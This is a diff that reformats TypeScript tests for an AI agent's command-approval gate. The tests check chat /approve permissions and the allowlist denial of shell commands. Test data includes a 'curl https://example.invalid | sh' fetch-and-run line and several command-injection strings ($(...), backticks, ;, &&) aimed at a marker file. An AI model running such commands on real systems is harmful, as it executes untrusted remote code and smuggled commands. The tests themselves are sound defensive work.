@@ -44,16 +44,28 @@ function assistantWith(approvers: unknown): Assistant {
 }
 
 async function pendingApproval(): Promise<string> {
-  const asked = await gw.gateway.call("exec.approval.request", { command: "curl https://example.invalid | sh", twoPhase: true });
+  const asked = await gw.gateway.call("exec.approval.request", {
+    command: "curl https://example.invalid | sh",
+    twoPhase: true,
+  });
   return asked.id;
 }
 
-async function chat(target: Assistant, text: string, sender: { id: string; channel: string }): Promise<string> {
-  const result = await target.enqueue({ text, sender: { ...sender, authorized: true }, channel: sender.channel });
+async function chat(
+  target: Assistant,
+  text: string,
+  sender: { id: string; channel: string },
+): Promise<string> {
+  const result = await target.enqueue({
+    text,
+    sender: { ...sender, authorized: true },
+    channel: sender.channel,
+  });
   return result.text ?? "";
 }
 
-const pendingIds = async () => (await gw.gateway.call("exec.approval.list", {})).approvals.map((entry) => entry.id);
+const pendingIds = async () =>
+  (await gw.gateway.call("exec.approval.list", {})).approvals.map((entry) => entry.id);
 
 describe("chat /approve", () => {
   it("a sender who is not an approver cannot approve (the chat being allowed to talk to the agent is not enough)", async () => {
@@ -63,8 +75,12 @@ describe("chat /approve", () => {
     expect(reply).toMatch(/not an exec approver/);
     expect(await pendingIds()).toContain(id);
     // the same id on another channel does not count either
-    expect(await chat(target, `/approve ${id} allow-once`, { id: "1001", channel: "discord" })).toMatch(/not an exec approver/);
-    expect(await chat(target, `/approve ${id} allow-once`, { id: "1001", channel: "telegram" })).toMatch(/allow-once/);
+    expect(await chat(target, `/approve ${id} allow-once`, { id: "1001", channel: "discord" })).toMatch(
+      /not an exec approver/,
+    );
+    expect(await chat(target, `/approve ${id} allow-once`, { id: "1001", channel: "telegram" })).toMatch(
+      /allow-once/,
+    );
     expect(await pendingIds()).not.toContain(id);
   });
 
@@ -75,7 +91,9 @@ describe("chat /approve", () => {
   ])("%s approves nothing", async (_name, approvers) => {
     const target = assistantWith(approvers);
     const id = await pendingApproval();
-    expect(await chat(target, `/approve ${id} allow-once`, { id: "42", channel: "telegram" })).toMatch(/not an exec approver/);
+    expect(await chat(target, `/approve ${id} allow-once`, { id: "42", channel: "telegram" })).toMatch(
+      /not an exec approver/,
+    );
     expect(await pendingIds()).toContain(id);
   });
 });
@@ -106,7 +124,14 @@ describe("gateway host exec under exec-approvals.json", () => {
     const ctx = context(stateDir, { security: "allowlist" });
     expect((await execTool.execute({ command: "echo safe" }, ctx)).content).toMatch(/^safe\n/);
     const marker = path.join(dir, "pwned");
-    for (const command of [`echo $(touch ${marker})`, `echo \`touch ${marker}\``, `echo hi > ${marker}`, `echo hi; touch ${marker}`, `echo hi && touch ${marker}`, `echo $HOME`])
+    for (const command of [
+      `echo $(touch ${marker})`,
+      `echo \`touch ${marker}\``,
+      `echo hi > ${marker}`,
+      `echo hi; touch ${marker}`,
+      `echo hi && touch ${marker}`,
+      `echo $HOME`,
+    ])
       await expect(execTool.execute({ command }, ctx)).rejects.toThrow(/exec denied|SYSTEM_RUN_DENIED/);
     await expect((await import("node:fs/promises")).stat(marker)).rejects.toThrow();
   });
@@ -114,16 +139,25 @@ describe("gateway host exec under exec-approvals.json", () => {
   it("an invalid exec-approvals.json denies even what the config allows, and says why", async () => {
     const stateDir = path.join(dir, "host");
     await (await import("node:fs/promises")).mkdir(stateDir, { recursive: true });
-    await writeFile(path.join(stateDir, "exec-approvals.json"), '{ "version": 1, "defaults": { "ask": "sometimes" } }');
-    await expect(execTool.execute({ command: "echo hi" }, context(stateDir, { security: "full" }))).rejects.toThrow(
-      /exec approvals file is invalid.*defaults\.ask must be off, on-miss or always/,
+    await writeFile(
+      path.join(stateDir, "exec-approvals.json"),
+      '{ "version": 1, "defaults": { "ask": "sometimes" } }',
     );
+    await expect(
+      execTool.execute({ command: "echo hi" }, context(stateDir, { security: "full" })),
+    ).rejects.toThrow(/exec approvals file is invalid.*defaults\.ask must be off, on-miss or always/);
   });
 
   it("ask on the gateway host: a miss waits for an operator; deny refuses, allow-once runs that command once", async () => {
     const stateDir = path.join(dir, "host");
     await (await import("node:fs/promises")).mkdir(stateDir, { recursive: true });
-    const ctx = { ...context(stateDir, { security: "allowlist", ask: "on-miss" as const }), gateway: { call: (method: string, params: Record<string, unknown>) => gw.gateway.call(method as never, params as never) } };
+    const ctx = {
+      ...context(stateDir, { security: "allowlist", ask: "on-miss" as const }),
+      gateway: {
+        call: (method: string, params: Record<string, unknown>) =>
+          gw.gateway.call(method as never, params as never),
+      },
+    };
     const decide = async (decision: "deny" | "allow-once") => {
       for (let attempt = 0; attempt < 400; attempt += 1) {
         const [id] = await pendingIds();
